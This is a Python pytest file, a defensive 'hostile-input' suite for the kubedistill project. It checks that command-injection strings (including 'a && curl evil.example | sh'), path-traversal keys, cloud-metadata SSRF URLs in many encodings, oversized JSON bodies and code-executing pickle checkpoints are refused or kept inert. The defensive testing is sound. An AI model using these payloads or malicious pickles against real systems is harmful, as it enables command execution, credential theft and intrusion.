"""The hostile-input suite (`pytest -m hostile`): what an attacker can hand kubedistill, and what happens.

Every input here is tried through the same code the product runs, and ends one of three ways:
- **refused**: a clear error (SpecError, RequestError, CredentialsRefused, UnpicklingError, ModelNotFound, ...)
  whose message names the field at fault;
- **accepted**: the input is legitimate as data (e.g. `$(id)` as a local directory name), and the test
  shows it stays data: rendered objects still validate, the entrypoint is the fixed text, pods stay restricted;
- **crashed**: anything else. There must be none.

`tally()` runs them all; SECURITY.md states its counts and `test_security_md_states_the_suites_counts` keeps
them current (run `python -m tests.unit.test_hostile` to print them).
"""

from __future__ import annotations

import base64
import io
import json
import pickle
from collections import Counter
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest

from tests.conftest import ROOT, minimal_doc

pytestmark = pytest.mark.hostile

#: string fields of the spec an attacker (anyone who may create a run) controls, as wire paths
STRING_FIELDS = [
    "metadata.name", "metadata.namespace", "spec.storage.uri", "spec.storage.endpoint", "spec.storage.region",
    "spec.storage.secretRef.name", "spec.data.logs", "spec.data.evalSet", "spec.data.sftSeed", "spec.data.corpus",
    "spec.teacher.baseModel", "spec.annotation.model", "spec.student.baseModel", "spec.ray.image",
    "spec.ray.rayVersion", "spec.teacher.resources.memory", "spec.student.resources.memory",
]
HOSTILE_STRINGS = [
    "$(id)", "`id`", "; cat /etc/passwd", "a && curl evil.example | sh", "'\"quote", "../../etc/passwd",
    "s3://bucket/../../other", "x" * 100_000, "\u202eevil\u202c", "nul\x00byte", "esc\x1b[31mred", "line\nbreak",
    "http://169.254.169.254/latest/meta-data/", "", " ", "\ud800",
]
#: sizes and counts: huge, negative, not numbers
NUMBER_FIELDS = [
    "spec.data.synthetic.services", "spec.data.synthetic.queries", "spec.data.synthetic.pairsPerQuery",
    "spec.teacher.sft.epochs", "spec.teacher.sft.batchSize", "spec.student.train.maxSteps",
    "spec.annotation.batchSize", "spec.pruning.candidates", "spec.serving.maxServices", "spec.serving.maxBodyBytes",
    "spec.serving.maxQueuedRequests", "spec.ray.stageTimeoutSeconds", "spec.teacher.resources.workers",
    "spec.student.resources.cpusPerWorker", "spec.serving.replicas.max", "spec.retention.keepVersions",
]
HOSTILE_NUMBERS: list[Any] = [10**12, -1, 1e308, float("nan"), float("inf"), "12", True, "", [1]]
ENDPOINTS = [
    "http://169.254.169.254", "http://[fe80::1]:9000", "http://metadata.google.internal", "http://2852039166",
    "http://0xa9fea9fe", "http://0251.0376.0251.0376", "http://[::ffff:169.254.169.254]", "http://100.100.100.200",
    "http://[fd00:ec2::254]", "http://0.0.0.0:9000", "file:///etc/passwd", "gopher://evil:70/", "http://u:p@minio:9000",
    "http://minio:9000/path", "http://minio:9000?x=1", "http://minio:99999", "https://", "minio:9000",
]
BODIES: list[bytes] = [
    b"[" * 100_000 + b"]" * 100_000,
    b'{"query": "q", "services": [{"id": "a", "text": "t", "x": ' + b"[" * 50 + b"]" * 50 + b"}]}",
    json.dumps({"query": "q", "services": [{"id": "i" * 257, "text": "t"}]}).encode(),
    b'{"query": "\\ud800", "services": [{"id": "a", "text": "t"}]}',
    b'{"query": "q", "services": [{"id": "\\udfff", "text": "t"}]}',
    b'{"query": "q", "services": [{"id": "a", "text": "\\ud83d"}]}',
    b"\xff\xfe\x00garbage",
    b"null", b"[]", b'"string"', b"1e999999", b'{"query": 1, "services": "x"}',
    json.dumps({"query": "q", "services": [{"id": "a", "text": "t"}] * 10_000}).encode(),
    json.dumps({"query": "q" * 1_000_000, "services": [{"id": "a", "text": "t"}]}).encode(),
    json.dumps({"query": "q", "services": [{"id": "a", "text": "t"}], "extra": 1}).encode(),
    json.dumps({"query": "$(id)", "services": [{"id": "<script>", "text": "'; DROP TABLE x;--"}]}).encode(),
]


@dataclass
class Outcome:
    kind: str  # what was tried: spec, number, endpoint, request, checkpoint, secret, storage-key
    what: str
    result: str  # refused | accepted | crashed
    detail: str = ""


def _set(doc: dict[str, Any], path: str, value: Any) -> dict[str, Any]:
    node = doc
    *parents, last = path.split(".")
    for p in parents:
        node = node.setdefault(p, {})
    node[last] = value
    return doc


def _doc() -> dict[str, Any]:
    doc = minimal_doc(storage={"uri": "s3://artifacts/runs", "secretRef": {"name": "creds"}},
                      data={"logs": "s3://logs/", "evalSet": "s3://logs/eval.jsonl", "sftSeed": "s3://logs/sft.jsonl"})
    doc["metadata"]["namespace"] = "ml"
    return doc


def _spec_outcome(kind: str, path: str, value: Any) -> Outcome:
    """Parse a run with `value` at `path`; accepted values must stay data in everything rendered from it."""
    from kubedistill.cluster import k8s
    from kubedistill.core import pipeline, spec
    from tests.kuberay import errors

    what = f"{path} = {value!r}"[:120]
    try:
        run = spec.parse_run(_set(_doc(), path, value))
    except spec.SpecError as e:
        named = any(p.path == path or p.path.startswith(path + ".") for p in e.problems)
        return Outcome(kind, what, "refused" if named else "crashed", "" if named else f"named {e.problems}")
    except Exception as e:  # noqa: BLE001 - the point: anything but a SpecError is a crash
        return Outcome(kind, what, "crashed", repr(e)[:200])
    try:
        objs = k8s.render(run, uid="u")
        problems = [e for o in objs for e in errors(o)]
        entrypoints = {o["spec"]["entrypoint"] for o in objs if o["kind"] == "RayJob"}
        fixed = {s.entrypoint for s in pipeline.build(run) if not s.service}
        pods = [t for o in objs if o["kind"] in ("RayJob", "RayService") for _, t in _templates(o)]
        unrestricted = [v for t in pods for v in restricted_violations(t)]
    except Exception as e:  # noqa: BLE001
        return Outcome(kind, what, "crashed", repr(e)[:200])
    if problems or entrypoints != fixed or unrestricted:
        return Outcome(kind, what, "crashed", f"{problems[:2]} {unrestricted[:2]}")
    return Outcome(kind, what, "accepted")


def _templates(obj: dict[str, Any]) -> Iterator[tuple[str, dict[str, Any]]]:
    from tests.kuberay import pod_templates

    yield from pod_templates(obj)


def _endpoint_outcome(url: str) -> Outcome:
    from kubedistill.cluster import security

    out = _spec_outcome("endpoint", "spec.storage.endpoint", url)
    if out.result == "accepted":  # the spec allows it: the operator's policy must still refuse it
        refused = security.endpoint_refused(url, ())
        out.result = "refused" if refused and "spec.storage.endpoint" in refused else "crashed"
    return out


def _request_outcome(body: bytes) -> Outcome:
    from kubedistill.stages.serving import RequestError, parse_request

    what = f"/score body {body[:40]!r}... ({len(body)} bytes)"
    try:
        parse_request(body, max_services=100, max_text_chars=2000)
    except RequestError as e:
        ok = 400 <= e.status < 500 and e.field and str(e).startswith(e.field)
        return Outcome("request", what, "refused" if ok else "crashed", str(e)[:120])
    except Exception as e:  # noqa: BLE001
        return Outcome("request", what, "crashed", repr(e)[:200])
    return Outcome("request", what, "accepted")


class _RunsCode:
    """A pickle that, when loaded, calls `fn(*args)`: the classic malicious checkpoint."""

    def __init__(self, fn: Callable[..., Any], *args: Any):
        self.fn, self.args = fn, args

    def __reduce__(self) -> tuple[Any, ...]:
        return self.fn, self.args


def malicious_checkpoints(marker: Path) -> list[tuple[str, bytes]]:
    """torch.save files whose loading would create `marker` (os.system, exec, subprocess, open)."""
    import os
    import subprocess

    import torch

    payloads = {
        "os.system": _RunsCode(os.system, f"touch {marker}"),
        "exec": _RunsCode(exec, f"open({str(marker)!r}, 'w').write('pwned')"),
        "subprocess.call": _RunsCode(subprocess.call, ["touch", str(marker)]),
        "nested in a state dict": {"step": 3, "model": {"w": torch.zeros(2)}, "x": _RunsCode(os.system, f"touch {marker}")},
    }
    out = []
    for name, obj in payloads.items():
        buf = io.BytesIO()
        torch.save(obj, buf)
        out.append((name, buf.getvalue()))
    buf = io.BytesIO()
    pickle.dump(_RunsCode(os.system, f"touch {marker}"), buf)  # a bare pickle, not a torch zip
    out.append(("bare pickle", buf.getvalue()))
    return out


def _checkpoint_outcome(name: str, data: bytes, marker: Path) -> Outcome:
    from kubedistill.ml.raytrain import load_tensors

    try:
        load_tensors(io.BytesIO(data))
    except pickle.UnpicklingError as e:
        ran = marker.exists()
        return Outcome("checkpoint", name, "crashed" if ran else "refused", str(e).splitlines()[0][:120])
    except Exception as e:  # noqa: BLE001
        return Outcome("checkpoint", name, "crashed", repr(e)[:200])
    return Outcome("checkpoint", name, "crashed" if marker.exists() else "accepted")


SECRETS: list[tuple[str, dict[str, str], dict[str, str]]] = [
    ("no label", {}, {"AWS_ACCESS_KEY_ID": "a2V5", "AWS_SECRET_ACCESS_KEY": "c2VjcmV0"}),
    ("label 'True'", {"kubedistill.io/storage-credentials": "True"}, {"AWS_ACCESS_KEY_ID": "a2V5", "AWS_SECRET_ACCESS_KEY": "c2VjcmV0"}),
    ("label 'yes'", {"kubedistill.io/storage-credentials": "yes"}, {"AWS_ACCESS_KEY_ID": "a2V5", "AWS_SECRET_ACCESS_KEY": "c2VjcmV0"}),
    ("other label", {"app": "db"}, {"password": "aHVudGVyMg=="}),
    ("opted in, no keys", {"kubedistill.io/storage-credentials": "true"}, {"password": "aHVudGVyMg=="}),
    ("opted in, one key", {"kubedistill.io/storage-credentials": "true"}, {"AWS_ACCESS_KEY_ID": "a2V5"}),
    ("opted in, not base64", {"kubedistill.io/storage-credentials": "true"}, {"AWS_ACCESS_KEY_ID": "!!", "AWS_SECRET_ACCESS_KEY": "??"}),
    ("opted in, not text", {"kubedistill.io/storage-credentials": "true"},
     {"AWS_ACCESS_KEY_ID": base64.b64encode(b"\xff\xfe").decode(), "AWS_SECRET_ACCESS_KEY": "c2VjcmV0"}),
]


def _secret_outcome(name: str, labels: dict[str, str], data: dict[str, str]) -> Outcome:
    from kubedistill.cluster import security

    try:
        security.credentials("creds", "ml", labels, data)
    except security.CredentialsRefused as e:
        ok = "spec.storage.secretRef" in str(e)
        return Outcome("secret", name, "refused" if ok else "crashed", str(e)[:120])
    except Exception as e:  # noqa: BLE001
        return Outcome("secret", name, "crashed", repr(e)[:200])
    return Outcome("secret", name, "accepted")


STORAGE_KEYS = ["../escape", "model/../../escape", "/etc/passwd", "a/\x00/b", "..", "a\\..\\..\\b"]


def _storage_key_outcome(key: str) -> Outcome:
    from kubedistill.core.storage import relative_key

    try:
        relative_key(key)
    except ValueError as e:
        return Outcome("storage-key", repr(key), "refused", str(e)[:120])
    except Exception as e:  # noqa: BLE001
        return Outcome("storage-key", repr(key), "crashed", repr(e)[:200])
    return Outcome("storage-key", repr(key), "accepted")


def tally(tmp: Path) -> list[Outcome]:
    """Every hostile input, tried."""
    out = [_spec_outcome("spec", f, v) for f in STRING_FIELDS for v in HOSTILE_STRINGS]
    out += [_spec_outcome("number", f, v) for f in NUMBER_FIELDS for v in HOSTILE_NUMBERS]
    out += [_endpoint_outcome(u) for u in ENDPOINTS]
    out += [_request_outcome(b) for b in BODIES]
    for i in range(len(malicious_checkpoints(tmp / "unused"))):
        marker = tmp / f"pwned-{i}"  # each payload would create its own marker
        name, data = malicious_checkpoints(marker)[i]
        out.append(_checkpoint_outcome(name, data, marker))
    out += [_secret_outcome(*s) for s in SECRETS]
    out += [_storage_key_outcome(k) for k in STORAGE_KEYS]
    return out


def counts(outcomes: list[Outcome]) -> dict[str, Counter[str]]:
    by: dict[str, Counter[str]] = {}
    for o in outcomes:
        by.setdefault(o.kind, Counter())[o.result] += 1
    return by


# ---------------------------------------------------------------------------------------------
# The `restricted` Pod Security Standard, field by field (kubernetes.io/docs/concepts/security/pod-security-standards)

_ALLOWED_VOLUMES = {"configMap", "csi", "downwardAPI", "emptyDir", "ephemeral", "persistentVolumeClaim", "projected",
                    "secret"}


def restricted_violations(template: dict[str, Any]) -> list[str]:
    """Every way a pod template breaks the `restricted` profile (Baseline + Restricted controls), plus
    this project's own rules: a memory limit on every container, no service-account token unless asked."""
    spec = template["spec"]
    pod_sc = spec.get("securityContext") or {}
    out = []
    for key in ("hostNetwork", "hostPID", "hostIPC"):
        if spec.get(key):
            out.append(f"spec.{key}")
    for v in spec.get("volumes") or []:
        if not set(v) - {"name"} <= _ALLOWED_VOLUMES:
            out.append(f"volume {v['name']}: {sorted(set(v) - {'name'})}")
    if pod_sc.get("sysctls"):
        out.append("spec.securityContext.sysctls")
    for c in [*spec.get("initContainers", []), *spec["containers"]]:
        sc, name = c.get("securityContext") or {}, c["name"]
        if sc.get("privileged"):
            out.append(f"{name}: privileged")
        if sc.get("allowPrivilegeEscalation") is not False:
            out.append(f"{name}: allowPrivilegeEscalation must be false")
        caps = sc.get("capabilities") or {}
        if "ALL" not in (caps.get("drop") or []):
            out.append(f"{name}: capabilities.drop must include ALL")
        if set(caps.get("add") or []) - {"NET_BIND_SERVICE"}:
            out.append(f"{name}: capabilities.add {caps['add']}")
        if not (sc.get("runAsNonRoot") or pod_sc.get("runAsNonRoot")):
            out.append(f"{name}: runAsNonRoot")
        if 0 in (sc.get("runAsUser"), pod_sc.get("runAsUser")):
            out.append(f"{name}: runAsUser 0")
        seccomp = (sc.get("seccompProfile") or pod_sc.get("seccompProfile") or {}).get("type")
        if seccomp not in ("RuntimeDefault", "Localhost"):
            out.append(f"{name}: seccompProfile {seccomp}")
        if sc.get("procMount", "Default") != "Default":
            out.append(f"{name}: procMount")
        if any(p.get("hostPort") for p in c.get("ports") or []):
            out.append(f"{name}: hostPort")
        if "memory" not in ((c.get("resources") or {}).get("limits") or {}):
            out.append(f"{name}: no memory limit")
        if c.get("envFrom"):
            out.append(f"{name}: envFrom (a whole Secret or ConfigMap)")
    return out


# ---------------------------------------------------------------------------------------------


@pytest.fixture(scope="module")
def outcomes(tmp_path_factory) -> list[Outcome]:
    return tally(tmp_path_factory.mktemp("hostile"))


def test_no_hostile_input_crashes_anything(outcomes):
    crashed = [o for o in outcomes if o.result == "crashed"]
    assert not crashed, "\n".join(f"{o.kind}: {o.what}: {o.detail}" for o in crashed[:20])
    by = counts(outcomes)
    # what must never be accepted: endpoints, checkpoints, secrets, escaping keys, non-numbers
    for kind in ("endpoint", "checkpoint", "secret", "storage-key", "number"):
        assert by[kind]["accepted"] == 0, [o.what for o in outcomes if o.kind == kind and o.result == "accepted"]
    accepted_specs = {o.what for o in outcomes if o.kind == "spec" and o.result == "accepted"}
    assert not any("169.254" in w or "\\x00" in w or ".." in w for w in accepted_specs), accepted_specs


def test_security_md_states_the_suites_counts(outcomes):
    by = counts(outcomes)
    text = (ROOT / "SECURITY.md").read_text()
    for kind, c in by.items():
        row = f"| {kind} | {sum(c.values())} | {c['refused']} | {c['accepted']} | {c['crashed']} |"
        assert row in text, f"SECURITY.md: the hostile-suite row should read {row} (python -m tests.unit.test_hostile)"


if __name__ == "__main__":
    import tempfile

    with tempfile.TemporaryDirectory() as d:
        results = tally(Path(d))
    print("| input | tried | refused with a clear error | accepted as data | crashed |")
    print("|---|---|---|---|---|")
    for kind, c in counts(results).items():
        print(f"| {kind} | {sum(c.values())} | {c['refused']} | {c['accepted']} | {c['crashed']} |")
    for o in results:
        if o.result == "crashed":
            print("CRASHED", o.kind, o.what, o.detail)
